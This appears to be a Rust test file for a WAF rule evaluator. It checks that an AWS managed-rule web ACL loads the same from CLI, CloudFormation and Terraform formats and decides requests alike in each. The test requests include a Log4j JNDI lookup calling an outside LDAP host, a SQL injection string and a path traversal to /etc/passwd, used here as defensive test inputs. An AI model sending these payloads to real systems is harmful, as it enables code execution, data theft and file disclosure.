//! One web ACL built on managed rule groups (excluded rules, rule action
//! overrides, a counted group, a scope-down, a label match on a group's
//! label) loads unchanged from every document shape AWS tools write, with
//! no warnings, and decides the same requests the same way in each.

use palisade_waf::{Decision, Evaluator, ParseOptions, Sets, WafRequest, WebAcl};
use serde_json::{Value, json};

/// The rules, as the API writes them (`SearchString` base64).
fn rules(search: &str) -> Value {
    json!([
      {"Name": "AWS-AWSManagedRulesCommonRuleSet", "Priority": 0, "OverrideAction": {"None": {}},
       "Statement": {"ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": "AWSManagedRulesCommonRuleSet",
         "Version": "Version_1.12",
         "ExcludedRules": [{"Name": "SizeRestrictions_BODY"}],
         "RuleActionOverrides": [{"Name": "NoUserAgent_HEADER", "ActionToUse": {"Count": {}}}]}},
       "VisibilityConfig": {"SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "core"}},
      {"Name": "AWS-AWSManagedRulesKnownBadInputsRuleSet", "Priority": 1, "OverrideAction": {"Count": {}},
       "Statement": {"ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": "AWSManagedRulesKnownBadInputsRuleSet"}},
       "VisibilityConfig": {"SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "kbi"}},
      {"Name": "block-log4j-outside-health", "Priority": 2, "Action": {"Block": {}},
       "Statement": {"AndStatement": {"Statements": [
         {"LabelMatchStatement": {"Scope": "NAMESPACE", "Key": "awswaf:managed:aws:known-bad-inputs:"}},
         {"NotStatement": {"Statement": {"ByteMatchStatement": {"SearchString": search, "PositionalConstraint": "STARTS_WITH",
           "FieldToMatch": {"UriPath": {}}, "TextTransformations": [{"Priority": 0, "Type": "LOWERCASE"}]}}}}]}},
       "VisibilityConfig": {"SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "log4j"}},
      {"Name": "AWS-AWSManagedRulesSQLiRuleSet", "Priority": 3, "OverrideAction": {"None": {}},
       "Statement": {"ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": "AWSManagedRulesSQLiRuleSet",
         "ScopeDownStatement": {"NotStatement": {"Statement": {"ByteMatchStatement": {"SearchString": search,
           "PositionalConstraint": "STARTS_WITH", "FieldToMatch": {"UriPath": {}},
           "TextTransformations": [{"Priority": 0, "Type": "LOWERCASE"}]}}}}}},
       "VisibilityConfig": {"SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "sqli"}}
    ])
}

const VISIBILITY: &str =
    r#"{"SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "shapes"}"#;

fn bare() -> Value {
    json!({"Name": "shapes", "DefaultAction": {"Allow": {}}, "Rules": rules("L2hlYWx0aA=="),
           "VisibilityConfig": serde_json::from_str::<Value>(VISIBILITY).unwrap_or_default()})
}

/// `aws wafv2 get-web-acl` output.
fn get_web_acl() -> Value {
    let mut acl = bare();
    let extra = json!({
        "Id": "a1b2c3d4-5678-90ab-cdef-EXAMPLE11111",
        "ARN": "arn:aws:wafv2:us-east-1:111122223333:regional/webacl/shapes/a1b2c3d4-5678-90ab-cdef-EXAMPLE11111",
        "Description": "every shape",
        "Capacity": 1325,
        "ManagedByFirewallManager": false,
        "RetrofittedByFirewallManager": false,
        "LabelNamespace": "awswaf:111122223333:webacl:shapes:",
        "PreProcessFirewallManagerRuleGroups": [],
        "PostProcessFirewallManagerRuleGroups": [],
        "TokenDomains": ["example.com"],
        "AssociationConfig": {"RequestBody": {"API_GATEWAY": {"DefaultSizeInspectionLimit": "KB_16"}}},
        "DataProtectionConfig": {"DataProtections": []},
        "OnSourceDDoSProtectionConfig": {"ALBLowReputationMode": "ACTIVE_UNDER_DDOS"},
        "CaptchaConfig": {"ImmunityTimeProperty": {"ImmunityTime": 300}},
        "ChallengeConfig": {"ImmunityTimeProperty": {"ImmunityTime": 300}}
    });
    merge(&mut acl, extra);
    json!({"WebACL": acl, "LockToken": "c1d2e3f4-0000-4000-8000-000000000000"})
}

/// `aws wafv2 create-web-acl --cli-input-json` input.
fn create_input() -> Value {
    let mut acl = bare();
    merge(
        &mut acl,
        json!({"Scope": "REGIONAL", "Description": "every shape",
               "Tags": [{"Key": "team", "Value": "payments"}],
               "TokenDomains": ["example.com"],
               "DataProtectionConfig": {"DataProtections": []},
               "CustomResponseBodies": {},
               "AssociationConfig": {"RequestBody": {"API_GATEWAY": {"DefaultSizeInspectionLimit": "KB_16"}}}}),
    );
    acl
}

/// `aws wafv2 update-web-acl --cli-input-json` input.
fn update_input() -> Value {
    let mut acl = create_input();
    if let Some(map) = acl.as_object_mut() {
        map.remove("Tags");
        map.insert("Id".into(), json!("a1b2c3d4"));
        map.insert("LockToken".into(), json!("c1d2e3f4"));
    }
    acl
}

/// CloudFormation properties: the same, with `SearchString` as text.
fn cloudformation_properties() -> Value {
    let mut properties = bare();
    properties["Rules"] = rules("/health");
    merge(
        &mut properties,
        json!({"Scope": "REGIONAL", "Tags": [{"Key": "team", "Value": "payments"}]}),
    );
    properties
}

fn merge(into: &mut Value, extra: Value) {
    if let (Some(map), Value::Object(extra)) = (into.as_object_mut(), extra) {
        map.extend(extra);
    }
}

fn shapes() -> Vec<(&'static str, String)> {
    let template = json!({
        "AWSTemplateFormatVersion": "2010-09-09",
        "Resources": {
            "Bucket": {"Type": "AWS::S3::Bucket"},
            "ShapesAcl": {"Type": "AWS::WAFv2::WebACL", "Properties": cloudformation_properties()}
        }
    });
    let to_yaml = |v: &Value| serde_yaml_ng::to_string(v).unwrap_or_else(|e| panic!("{e}"));
    vec![
        ("the web ACL", bare().to_string()),
        ("get-web-acl output", get_web_acl().to_string()),
        ("create-web-acl input", create_input().to_string()),
        ("update-web-acl input", update_input().to_string()),
        ("a CloudFormation template (YAML)", to_yaml(&template)),
        ("a CloudFormation template (JSON)", template.to_string()),
        (
            "CloudFormation properties (YAML)",
            to_yaml(
                &json!({"Type": "AWS::WAFv2::WebACL", "Properties": cloudformation_properties()}),
            ),
        ),
        ("a Terraform .tf.json with rule_json", terraform_config()),
        ("terraform show -json", terraform_state()),
    ]
}

/// Terraform's configuration in its JSON syntax, the rules as `rule_json`.
fn terraform_config() -> String {
    json!({"resource": {"aws_wafv2_web_acl": {"shapes": {
        "name": "shapes", "scope": "REGIONAL", "default_action": {"allow": {}},
        "rule_json": rules("L2hlYWx0aA==").to_string(),
        "visibility_config": {"cloudwatch_metrics_enabled": true, "metric_name": "shapes", "sampled_requests_enabled": true}
    }}}})
    .to_string()
}

/// `terraform show -json` of a state holding the web ACL, in a module.
fn terraform_state() -> String {
    json!({"format_version": "1.0", "terraform_version": "1.9.8", "values": {"root_module": {
        "resources": [{"address": "aws_s3_bucket.logs", "type": "aws_s3_bucket", "values": {"bucket": "logs"}}],
        "child_modules": [{"address": "module.waf", "resources": [{
            "address": "module.waf.aws_wafv2_web_acl.this", "mode": "managed", "type": "aws_wafv2_web_acl", "name": "this",
            "values": {"arn": "arn:aws:wafv2:us-east-1:111122223333:regional/webacl/shapes/a1b2", "name": "shapes",
              "default_action": [{"allow": [{"custom_request_handling": []}], "block": []}],
              "custom_response_body": [], "rule": [], "rule_json": rules("L2hlYWx0aA==").to_string(),
              "scope": "REGIONAL", "tags": {}}}]}]}}})
    .to_string()
}

/// A request and what it must get: the deciding rule (`-` for the
/// default action), and labels it must carry.
struct Expected {
    method: &'static str,
    path: &'static str,
    query: &'static str,
    headers: &'static [(&'static str, &'static str)],
    body: &'static str,
    rule: &'static str,
    labels: &'static [&'static str],
}

const UA: (&str, &str) = ("user-agent", "Mozilla/5.0 Firefox/133.0");

const EXPECTED: &[Expected] = &[
    Expected {
        method: "GET",
        path: "/items",
        query: "page=2",
        headers: &[UA],
        body: "",
        rule: "-",
        labels: &[],
    },
    // NoUserAgent_HEADER is overridden to Count: labelled, passed.
    Expected {
        method: "GET",
        path: "/items",
        query: "",
        headers: &[],
        body: "",
        rule: "-",
        labels: &["awswaf:managed:aws:core-rule-set:NoUserAgent_Header"],
    },
    // SizeRestrictions_BODY is excluded: counted, passed.
    Expected {
        method: "POST",
        path: "/upload",
        query: "",
        headers: &[UA],
        body: "0123456789012345678901234567890123456789012345678901234567890123456789012345678901234567890123456789",
        rule: "-",
        labels: &[],
    },
    // The counted group labels a Log4j lookup; the next rule blocks on
    // the label, except under /health.
    Expected {
        method: "GET",
        path: "/items",
        query: "",
        headers: &[UA, ("x-api-version", "${jndi:ldap://203.0.113.9/a}")],
        body: "",
        rule: "block-log4j-outside-health",
        labels: &["awswaf:managed:aws:known-bad-inputs:Log4JRCE_Header"],
    },
    Expected {
        method: "GET",
        path: "/HEALTH/live",
        query: "",
        headers: &[UA, ("x-api-version", "${jndi:ldap://203.0.113.9/a}")],
        body: "",
        rule: "-",
        labels: &["awswaf:managed:aws:known-bad-inputs:Log4JRCE_Header"],
    },
    // The SQL group is scoped down: not under /health.
    Expected {
        method: "GET",
        path: "/items",
        query: "id=1%27%20or%20%271%27%3D%271",
        headers: &[UA],
        body: "",
        rule: "AWS-AWSManagedRulesSQLiRuleSet",
        labels: &["awswaf:managed:aws:sql-database:SQLi_QueryArguments"],
    },
    Expected {
        method: "GET",
        path: "/health",
        query: "id=1%27%20or%20%271%27%3D%271",
        headers: &[UA],
        body: "",
        rule: "-",
        labels: &[],
    },
    Expected {
        method: "GET",
        path: "/files",
        query: "name=..%2F..%2Fetc%2Fpasswd",
        headers: &[UA],
        body: "",
        rule: "AWS-AWSManagedRulesCommonRuleSet",
        labels: &["awswaf:managed:aws:core-rule-set:GenericLFI_QueryArguments"],
    },
];

fn check(evaluator: &Evaluator, shape: &str) {
    for expected in EXPECTED {
        let request = WafRequest {
            method: expected.method,
            uri_path: expected.path,
            query: expected.query,
            headers: expected.headers.to_vec(),
            body: expected.body.as_bytes(),
            client_ip: None,
        };
        let verdict = evaluator.evaluate(&request);
        let rule = verdict.terminating_rule.as_deref().unwrap_or("-");
        assert_eq!(
            rule, expected.rule,
            "{shape}: {} {}?{}: {verdict:?}",
            expected.method, expected.path, expected.query
        );
        assert_eq!(
            matches!(verdict.decision, Decision::Block(_)),
            expected.rule != "-",
            "{shape}"
        );
        for label in expected.labels {
            assert!(
                verdict.labels.iter().any(|l| l == label),
                "{shape}: {label} missing from {:?}",
                verdict.labels
            );
        }
    }
}

#[test]
fn every_document_shape_loads_without_warnings_and_decides_alike() {
    for (shape, text) in shapes() {
        for strict in [false, true] {
            let acl = WebAcl::parse_with(&text, shape, ParseOptions { strict })
                .unwrap_or_else(|e| panic!("{shape}: {e}"));
            let evaluator =
                Evaluator::new(acl, &Sets::default()).unwrap_or_else(|e| panic!("{shape}: {e}"));
            assert_eq!(evaluator.warnings(), &[] as &[String], "{shape}");
            check(&evaluator, shape);
        }
    }
}

#[test]
fn a_body_counted_by_exclusion_is_logged_as_excluded() {
    let acl = WebAcl::parse(&bare().to_string(), "acl.json").unwrap_or_else(|e| panic!("{e}"));
    let evaluator = Evaluator::new(acl, &Sets::default()).unwrap_or_else(|e| panic!("{e}"));
    let body = "a".repeat(9000);
    let request = WafRequest {
        method: "POST",
        uri_path: "/upload",
        query: "",
        headers: vec![UA],
        body: body.as_bytes(),
        client_ip: None,
    };
    let verdict = evaluator.evaluate(&request);
    assert_eq!(verdict.decision, Decision::Allow);
    let excluded: Vec<_> = verdict
        .matches
        .iter()
        .filter(|m| m.excluded)
        .map(|m| m.group_rule.as_deref().unwrap_or_default())
        .collect();
    assert_eq!(excluded, ["SizeRestrictions_BODY"]);
    assert!(
        verdict
            .labels
            .contains(&"awswaf:managed:aws:core-rule-set:SizeRestrictions_Body".to_string()),
        "{:?}",
        verdict.labels
    );
}

#[test]
fn an_unknown_field_is_a_warning_naming_it_and_strict_refuses_it() {
    let mut acl = create_input();
    merge(&mut acl, json!({"Frobnicate": true}));
    acl["Rules"][0]["Statement"]["ManagedRuleGroupStatement"]["Colour"] = json!("blue");
    let text = acl.to_string();
    let loose = WebAcl::parse(&text, "acl.json").unwrap_or_else(|e| panic!("{e}"));
    let warnings = loose.warnings.join("\n");
    assert!(warnings.contains("Frobnicate"), "{warnings}");
    assert!(warnings.contains("Colour"), "{warnings}");
    let strict = WebAcl::parse_with(&text, "acl.json", ParseOptions { strict: true })
        .err()
        .map(|e| e.to_string())
        .unwrap_or_default();
    assert!(strict.contains("Frobnicate"), "{strict}");
}

#[test]
fn terraform_rule_json_alone_loads_with_the_default_action_it_assumes() {
    let text = rules("L2hlYWx0aA==").to_string();
    let acl = WebAcl::parse(&text, "rules.json").unwrap_or_else(|e| panic!("{e}"));
    let evaluator = Evaluator::new(acl, &Sets::default()).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(
        evaluator.warnings(),
        [
            "rules.json: a list of rules without its web ACL (Terraform's rule_json): the default action is taken to be Allow"
        ]
    );
    check(&evaluator, "rule_json alone");
}

#[test]
fn terraform_shapes_palisade_cannot_read_are_refused_with_the_path() {
    let blocks = json!({"resource": {"aws_wafv2_web_acl": {"a": {"name": "a", "default_action": {"block": {}},
        "rule": [{"name": "r", "priority": 1, "action": {"block": {}}}]}}}});
    let err = WebAcl::parse(&blocks.to_string(), "main.tf.json")
        .err()
        .map(|e| e.to_string())
        .unwrap_or_default();
    assert!(
        err.contains("resource/aws_wafv2_web_acl/a/rule") && err.contains("rule_json"),
        "{err}"
    );
    let two = json!({"resource": {"aws_wafv2_web_acl": {"a": {"name": "a"}, "b": {"name": "b"}}}});
    let err = WebAcl::parse(&two.to_string(), "main.tf.json")
        .err()
        .map(|e| e.to_string())
        .unwrap_or_default();
    assert!(err.contains("several aws_wafv2_web_acl resources"), "{err}");
    let custom = json!({"resource": {"aws_wafv2_web_acl": {"a": {"name": "a", "rule_json": "[]",
        "default_action": {"block": {"custom_response": {"response_code": 418}}}}}}});
    let err = WebAcl::parse(&custom.to_string(), "main.tf.json")
        .err()
        .map(|e| e.to_string())
        .unwrap_or_default();
    assert!(err.contains("default_action/block"), "{err}");
    let none = json!({"resource": {"aws_s3_bucket": {"logs": {"bucket": "logs"}}}});
    let err = WebAcl::parse(&none.to_string(), "main.tf.json")
        .err()
        .map(|e| e.to_string())
        .unwrap_or_default();
    assert!(err.contains("without an aws_wafv2_web_acl"), "{err}");
}
